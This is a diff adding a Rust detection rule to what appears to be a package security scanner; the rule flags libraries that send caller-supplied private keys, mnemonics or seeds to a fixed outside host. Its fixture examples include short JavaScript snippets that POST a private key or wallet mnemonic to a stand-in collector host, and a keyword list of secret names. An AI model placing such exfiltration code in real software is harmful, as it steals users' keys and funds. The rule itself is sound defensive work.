@@ -1,0 +1,207 @@
+//! What a caller hands over goes to a host that the package fixed.
+
+use super::{Context, Declaration, Example, Finding, host, judge, matrix};
+use crate::api::targets;
+use crate::model::{Confidence, Origin, Severity};
+
+pub(super) static FINDING: Declaration = Declaration {
+    id: "parameter-exfiltration",
+    title: "Sends what a caller hands over to a host of its own choice",
+    severity: Severity::High,
+    summary: "A function that others call takes a key, a seed or a pass phrase, or anything at all, and what it takes reaches a host that the package fixed and the caller cannot choose: a private key has no business leaving the process, and a collecting service no business getting arguments.",
+    advice: "Look at what the host is. A library that signs or encrypts does not need to send the key; if it did, take the key for known to others.",
+    benign_when: "The package is a client of a service that keeps keys for its users, and the host is that service's.",
+    references: &["CWE-200", "CWE-506", "T1041"],
+    examples: &[
+        Example {
+            name: "a wallet that posts the key that it signs with",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.sign = (text, privateKey) => {
+  fetch("https://collect.invalid/k", { method: "POST", body: JSON.stringify({ k: privateKey }) });
+  return require("crypto").createHmac("sha256", privateKey).update(text).digest("hex");
+};"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a class that keeps the seed, in another file than the request",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { report } = require("./report");
+class Wallet { constructor(mnemonic) { this.mnemonic = mnemonic; } open() { report(this.mnemonic); } }
+module.exports = { Wallet };"#,
+                ),
+                (
+                    "report.js",
+                    r#"const https = require("https");
+exports.report = (text) => https.request({ host: "collect.invalid", method: "POST" }).end(text);"#,
+                ),
+            ],
+        },
+        Example {
+            name: "arguments end in a service that collects",
+            severity: Some(Severity::Medium),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.format = (text) => { fetch("https://a.oastify.com/", { method: "POST", body: text }); return text; };"#,
+                ),
+            ],
+        },
+        Example {
+            name: "the caller says where the key goes",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.store = (privateKey, url) => fetch(url, { method: "POST", body: privateKey });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "what was signed is sent, not the key",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"signer":"1"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { sign } = require("signer");
+exports.send = (text, privateKey) => fetch("https://node.example/", { method: "POST", body: sign(text, privateKey) });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a client posts what it is given to its service",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.track = (event) => fetch("https://api.service.example/", { method: "POST", body: JSON.stringify(event) });"#,
+                ),
+            ],
+        },
+    ],
+    detect,
+};
+
+/// Names of what nobody hands on: lower case, without `_`.
+const KEYS: [&str; 12] = [
+    "privatekey",
+    "privkey",
+    "secretkey",
+    "mnemonic",
+    "seedphrase",
+    "seedwords",
+    "recoveryphrase",
+    "passphrase",
+    "keypair",
+    "walletseed",
+    "masterkey",
+    "signingkey",
+];
+/// Classes of hosts that collect what anybody sends.
+const COLLECTORS: [&str; 6] = [
+    "oast",
+    "tunnel",
+    "paste",
+    "messenger-webhook",
+    "file-drop",
+    "anonymous",
+];
+
+fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    for flow in context.flows {
+        if flow.id != "parameter-to-network" {
+            continue;
+        }
+        let (Some(name), Some(url)) = (&flow.source.target, &flow.sink.target) else {
+            continue;
+        };
+        let Some(taker) = matrix::taker(&context.home, flow) else {
+            continue;
+        };
+        let is_key = is_key(name);
+        let collects = COLLECTORS.contains(&taker);
+        let is_hidden = flow.sink.origin.has(Origin::Decoded);
+        let severity = match taker {
+            "own" | "registry" | "local" | "callers" | "unknown" => continue,
+            _ if is_key && (collects || is_hidden) => Severity::Critical,
+            _ if is_key => Severity::High,
+            _ if collects => Severity::Medium,
+            _ => continue,
+        };
+        let message = format!("{name}, which a caller hands over, is sent to {url}");
+        let mut finding = Finding::of_flow(&FINDING, flow, message);
+        finding.severity = severity;
+        if severity < Severity::Critical {
+            finding.confidence = Confidence::Medium;
+        }
+        let is_chain = host::host(url)
+            .and_then(|at| targets::host_class(&at, host::path(url)))
+            .is_some_and(|class| class.id == "host.chain");
+        if is_chain {
+            let note = "the host is a node of a chain, which gets what was signed".to_owned();
+            finding.lower(Severity::Medium, "chain-host", note);
+        }
+        judge::by_reach(flow, &mut finding);
+        found.push(finding);
+    }
+}
+
+fn is_key(name: &str) -> bool {
+    let plain: String = name
+        .chars()
+        .filter(char::is_ascii_alphanumeric)
+        .map(|c| c.to_ascii_lowercase())
+        .collect();
+    plain == "seed" || plain == "wif" || KEYS.iter().any(|key| plain.contains(key))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_of_keys() {
+        for name in [
+            "privateKey",
+            "PRIVATE_KEY",
+            "mnemonic",
+            "walletSeedPhrase",
+            "seed",
+        ] {
+            assert!(is_key(name), "{name}");
+        }
+        for name in ["key", "publicKey", "seedling", "password", "apiKey"] {
+            assert!(!is_key(name), "{name}");
+        }
+    }
+}
